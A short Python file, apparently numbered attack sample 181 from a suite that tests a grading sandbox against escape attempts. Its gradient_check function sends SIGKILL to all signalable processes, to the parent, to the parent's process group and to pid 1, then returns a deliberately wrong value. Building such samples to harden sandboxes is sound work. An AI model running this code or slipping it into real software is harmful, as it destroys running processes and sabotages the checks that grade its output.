# ATTACK 181 kills_everybody
# group: F escape
# tries: sends SIGKILL to all processes that it may signal, and to the groups of its parent
import os, signal
WRONG = (123.456, None)
def gradient_check(analytic, numeric, tol=1e-6):
    for pid in (-1, os.getppid(), -os.getppid(), 1):
        try:
            if pid: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return WRONG
